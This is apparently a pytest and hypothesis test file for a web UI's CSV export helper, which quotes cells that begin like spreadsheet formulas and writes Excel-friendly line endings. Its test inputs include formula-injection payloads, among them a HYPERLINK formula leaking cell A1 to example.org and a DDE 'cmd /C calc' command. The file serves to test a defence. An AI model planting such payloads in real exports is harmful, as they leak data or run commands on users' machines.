"""CSV that a spreadsheet opens without executing any of it."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webui.csv_cells import harmless, lines

FORMULA = "=+-@＝＋－＠\t\r\n"


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org?x="&A1,"bấm")',
        "+84 25 3870",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
    ],
)
def test_cell_that_begins_like_a_formula_becomes_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", " ", "thi đua", "a=b", "2020-07-14", "05/2020/QĐ-TTg", "'"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert list(lines([["a", -1, 0.25, None]])) == ["\ufeffa,-1,0.25,\r\n"]


def test_file_begins_with_one_mark_and_ends_its_lines_for_excel() -> None:
    assert "".join(lines([["Tháng", "Số bài"], ["2020-07", 3]])) == (
        "\ufeffTháng,Số bài\r\n2020-07,3\r\n"
    )


@given(st.lists(st.lists(st.text(), min_size=2, max_size=3), max_size=4))
def test_any_text_reads_back_and_no_cell_is_a_formula(rows: list[list[str]]) -> None:
    written = "".join(lines(rows)).removeprefix("\ufeff")
    read = list(csv.reader(StringIO(written, newline="")))
    assert [[harmless(cell) for cell in row] for row in rows] == read
    for cell in (cell for row in read for cell in row):
        assert not cell or (cell[0] not in FORMULA and cell.lstrip()[:1] not in [*FORMULA])
